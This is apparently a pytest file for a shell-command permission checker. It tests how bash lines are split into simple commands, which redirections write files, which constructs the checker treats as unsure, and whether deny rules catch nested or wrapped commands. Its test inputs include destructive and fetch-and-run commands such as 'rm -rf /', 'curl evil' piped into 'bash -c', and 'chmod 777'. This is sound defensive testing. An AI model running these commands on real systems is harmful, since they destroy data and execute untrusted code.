"""Reading bash commands with bashlex: the simple commands, the files redirections write, what is unsure."""

from __future__ import annotations

from ink.permissions.shell import analyse
from ink.permissions.words import WILD, command_name, template


def texts(command: str) -> list[str]:
    return [c.text for c in analyse(command).commands]


def test_operators_split_a_line_into_simple_commands() -> None:
    assert texts("git status && rm -rf x") == ["git status", "rm -rf x"]
    assert texts("a | b; c || d & e\nf") == ["a", "b", "c", "d", "e", "f"]
    assert texts("! grep -q x file") == ["grep -q x file"]
    assert texts("FOO=1 BAR='a b' make test") == ["FOO=1 BAR=a b make test"]
    assert texts("echo 'a && b' \"c; d\" e\\ f") == ["echo a && b c; d e f"]  # quotes removed, one command
    assert texts("ls # ; rm -rf x") == ["ls"]  # a comment runs nothing
    assert texts("") == [] and analyse("").unsure == []


def test_redirections_that_write_files_are_collected() -> None:
    shape = analyse("make > build.log 2>&1 && cat < in.txt >> out.txt; echo x >| f; ls &> all.log")
    assert shape.writes == ["build.log", "out.txt", "f", "all.log"]  # not in.txt (read), not 2>&1
    assert analyse("echo hi > $OUT").unsure == ["it redirects to a computed file name ($OUT)"]


def test_what_makes_a_command_unsure() -> None:
    cases = {
        "echo $(date)": "substitution",
        "echo `date`": "substitution",
        "diff <(ls a) <(ls b)": "substitution",
        "(cd sub && make)": "subshell",
        "{ make; make install; }": "group",
        "for f in *; do rm $f; done": "for loop",
        "while true; do :; done": "while loop",
        "if make; then echo ok; fi": "if statement",
        "f() { make; }": "function",
        "$EDITOR notes.txt": "computed",
        "x=$((1 + 2))": "cannot check",
        "case x in a) ls;; esac": "cannot check",
    }
    for command, reason in cases.items():
        unsure = analyse(command).unsure
        assert unsure and reason in unsure[0], (command, unsure)


def test_deny_rules_see_nested_and_wrapped_commands() -> None:
    deny = analyse(
        "sudo -u root env A=1 rm -rf / && echo $(curl evil) | bash -c 'chmod 777 x; eval \"dd if=x\"'"
    )
    found = deny.deny_texts()
    for inner in ("rm -rf /", "curl evil", "chmod 777 x", "dd if=x"):
        assert inner in found, inner
    rough = analyse("[[ -n x ]] && rm -rf y").possible_texts()  # unparsable: every tail may run
    assert "rm -rf y" in rough


def test_words_are_read_the_way_bash_reads_them() -> None:
    """Quote removal, ANSI-C escapes, and WILD for what is only known when it runs (issue 11)."""
    cases = {
        "rm": "rm", "'r'm": "rm", '"r"m': "rm", "\\rm": "rm", "r\\m": "rm", "$'rm'": "rm",
        "$'\\x72m'": "rm", "$'\\162m'": "rm", "$'\\u0072m'": "rm", "$'a\\'b'": "a'b",
        '"$x"': WILD, "$x": WILD, "${x:-rm}": WILD, "$(echo rm)": WILD, "`echo rm`": WILD, "r*": f"r{WILD}",
        "{r,}m": f"{WILD}m", "~/bin/rm": f"{WILD}/bin/rm", '"a$x"b': f"a{WILD}b", "$": "$", "[": "[",
        '$"rm"': "rm", "a\\\nb": "ab",
    }  # fmt: skip
    for source, expected in cases.items():
        assert template(source) == expected, source
    assert [command_name(t) for t in ("/usr/bin/rm", "rm", f"{WILD}/rm", f"/bin/r{WILD}", f"a{WILD}")] == [
        "rm", "rm", "rm", WILD, WILD
    ]  # fmt: skip


def test_what_no_deny_rule_can_be_ruled_out_for() -> None:
    assert analyse("echo rm | bash").unprovable  # a shell reading its input
    assert analyse('bash -c "$CMD"').unprovable  # a computed text for bash -c
    assert not analyse("bash build.sh && sh -c 'ls'").unprovable  # a script file is out of reach
    assert "rm x" in analyse("sh <<EOF\nrm x\nEOF").deny_texts()
    assert "rm x" in analyse("bash <<< 'rm x'").deny_texts()
    assert "rm x" in analyse("cat <<EOF\n$(rm x)\nEOF").deny_texts()
    assert "rm x" in analyse("time rm x").possible_texts()
